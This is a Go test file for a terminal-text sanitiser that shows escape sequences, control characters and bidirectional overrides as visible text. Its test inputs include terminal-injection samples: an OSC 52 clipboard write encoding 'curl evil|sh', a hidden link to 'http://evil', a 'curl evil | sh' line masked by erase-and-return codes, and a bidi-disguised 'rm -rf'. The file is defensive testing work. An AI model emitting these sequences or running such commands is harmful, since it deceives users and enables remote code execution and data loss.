package termtext

import (
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"
)

// acted is the test's own list of what a terminal acts on, from the
// Unicode tables: control characters (C0, DEL, C1) and the
// Bidi_Control property (embeddings, overrides, isolates, marks).
func acted(r rune) bool {
	return (unicode.Is(unicode.Cc, r) && r != '\n' && r != '\t') || unicode.Is(unicode.Bidi_Control, r)
}

// plain: s is valid UTF-8 with nothing a terminal acts on.
func plain(s string) bool {
	if !utf8.ValidString(s) {
		return false
	}
	for _, r := range s {
		if acted(r) {
			return false
		}
	}
	return true
}

func TestCleanShowsWhatATerminalWouldActOn(t *testing.T) {
	for _, tc := range []struct{ name, in, want string }{
		{"OSC 52 clipboard write", "\x1b]52;c;Y3VybCBldmlsfHNo\x07", "^[]52;c;Y3VybCBldmlsfHNo^G"},
		{"OSC 8 hidden link", "\x1b]8;;http://evil\x1b\\text\x1b]8;;\x1b\\", `^[]8;;http://evil^[\text^[]8;;^[\`},
		{"CSI 2J", "\x1b[2Jclean", "^[[2Jclean"},
		{"line rewrite", "curl evil | sh\x1b[2K\rls -la", "curl evil | sh^[[2K^Mls -la"},
		{"C1 CSI", "\u009b2J", "<U+009B>2J"},
		{"C1 OSC and ST", "\u009d52;c;x\u009c", "<U+009D>52;c;x<U+009C>"},
		{"bidi override", "rm -rf \u202e/ fr-", "rm -rf <U+202E>/ fr-"},
		{"bidi isolates", "\u2066a\u2067b\u2068c\u2069", "<U+2066>a<U+2067>b<U+2068>c<U+2069>"},
		{"embeddings", "\u202a\u202b\u202c\u202d", "<U+202A><U+202B><U+202C><U+202D>"},
		{"direction marks", "a\u200eb\u200fc\u061cd", "a<U+200E>b<U+200F>c<U+061C>d"},
		{"NUL, BEL, backspace", "a\x00b\x07c\x08d", "a^@b^Gc^Hd"},
		{"unit separator", "\x1f", "^_"},
		{"DEL", "a\x7fb", "a^?b"},
		{"invalid UTF-8", "a\xffb\xc0", `a\xffb\xc0`},
		{"8-bit CSI byte", "\x9b2J", `\x9b2J`},
		{"truncated rune", "\xe2\x80", `\xe2\x80`},
		{"lone CR", "50%\r100%", "50%^M100%"},
		{"CRLF line ends", "a\r\nb\r\n", "a\nb\n"},
		{"CR CR LF", "a\r\r\n", "a^M\n"},
		{"trailing CR", "a\r", "a^M"},
		{"newline and tab stay", "a\tb\nc", "a\tb\nc"},
		{"printable Unicode stays", "héllo — 世界 🙂 \u200d ✓", "héllo — 世界 🙂 \u200d ✓"},
		{"right-to-left letters stay", "שלום مرحبا", "שלום مرحبا"},
		{"replacement character stays", "\ufffd", "\ufffd"},
		{"empty", "", ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got := Clean(tc.in); got != tc.want {
				t.Errorf("Clean(%q) = %q, want %q", tc.in, got, tc.want)
			}
		})
	}
}

func TestCleanReturnsPlainTextItself(t *testing.T) {
	s := strings.Repeat("plain text, ünïcode ✓\tand lines\n", 100)
	if n := testing.AllocsPerRun(100, func() { _ = Clean(s) }); n != 0 {
		t.Errorf("Clean of plain text allocated %v times, want 0", n)
	}
}

func TestStreamJoinsACharacterSplitBetweenPieces(t *testing.T) {
	for _, tc := range []struct {
		name   string
		pieces []string
		want   string
	}{
		{"two-byte rune", []string{"caf\xc3", "\xa9!"}, "café!"},
		{"four-byte rune over three pieces", []string{"\xf0\x9f", "\x98", "\x80 ok"}, "😀 ok"},
		{"bidi override split", []string{"ls \xe2\x80", "\xae -la"}, "ls <U+202E> -la"},
		{"C1 CSI split", []string{"\xc2", "\x9b2J"}, "<U+009B>2J"},
		{"CSI split after ESC", []string{"text\x1b", "[2J"}, "text^[[2J"},
		{"OSC 52 split", []string{"\x1b]52;c;", "eA==\x07"}, "^[]52;c;eA==^G"},
		{"CRLF split", []string{"line\r", "\nnext"}, "line\nnext"},
		{"lone CR split", []string{"50%\r", "100%"}, "50%^M100%"},
		{"unfinished rune at the end", []string{"ok\xe2\x80"}, `ok\xe2\x80`},
		{"CR at the end", []string{"ok\r"}, "ok^M"},
		{"invalid start byte is not held", []string{"a\xff", "b"}, `a\xffb`},
		{"incomplete then ASCII", []string{"\xe2\x80", "x"}, `\xe2\x80x`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var s Stream
			var got strings.Builder
			for _, p := range tc.pieces {
				got.WriteString(s.Write(p))
			}
			got.WriteString(s.Flush())
			if got.String() != tc.want {
				t.Errorf("streamed %q = %q, want %q", tc.pieces, got.String(), tc.want)
			}
			if whole := Clean(strings.Join(tc.pieces, "")); whole != tc.want {
				t.Errorf("Clean of the joined pieces = %q, want %q (as streamed)", whole, tc.want)
			}
		})
	}
}

func TestStreamShowsAnEscapeInThePieceItComesIn(t *testing.T) {
	var s Stream
	if got := s.Write("a\x1b"); got != "a^[" {
		t.Errorf("Write = %q, want the ESC shown at once", got)
	}
	if got := s.Write("]52;c;x\x07"); got != "]52;c;x^G" {
		t.Errorf("Write = %q", got)
	}
}

// checkSafe fails t when out holds anything a terminal would act on.
func checkSafe(t *testing.T, in, out string) {
	t.Helper()
	if !utf8.ValidString(out) {
		t.Fatalf("Clean(%q) = %q: not valid UTF-8", in, out)
	}
	for _, r := range out {
		if acted(r) {
			t.Fatalf("Clean(%q) = %q: holds %U", in, out, r)
		}
	}
}

// FuzzClean: whatever the input, the output is valid UTF-8 with no control
// but newline and tab, no C1 and no bidirectional control; input with none
// of those comes out unchanged; and cleaning it in any two pieces with a
// Stream gives what cleaning it whole gives.
func FuzzClean(f *testing.F) {
	for _, seed := range []string{
		"", "plain", "\x1b]52;c;eA==\x07", "\x1b]8;;http://evil\x1b\\text\x1b]8;;\x1b\\", "\x1b[2J",
		"\x1b[2K\rls", "\u009b2J", "\u202e", "\xff\xfe", "a\r\nb", "caf\xc3\xa9", "\xf0\x9f\x98\x80", "\u2066\u200f",
	} {
		f.Add(seed, uint(len(seed)/2))
	}
	f.Fuzz(func(t *testing.T, in string, at uint) {
		out := Clean(in)
		checkSafe(t, in, out)
		if Clean(out) != out {
			t.Fatalf("Clean(%q) = %q is not clean itself", in, out)
		}
		if plain(in) && out != in {
			t.Fatalf("Clean changed plain text %q into %q", in, out)
		}
		cut := int(at % uint(len(in)+1))
		var s Stream
		streamed := s.Write(in[:cut]) + s.Write(in[cut:]) + s.Flush()
		if streamed != out {
			t.Fatalf("%q cut at %d streams as %q, whole as %q", in, cut, streamed, out)
		}
	})
}

func TestEveryControlAndBidiControlCharacterIsShown(t *testing.T) {
	for r := rune(0); r <= unicode.MaxRune; r++ {
		if !utf8.ValidRune(r) {
			continue
		}
		in := string(r)
		out := Clean(in)
		if acted(r) == (out == in) {
			t.Errorf("Clean(%q) = %q", in, out)
		}
	}
}
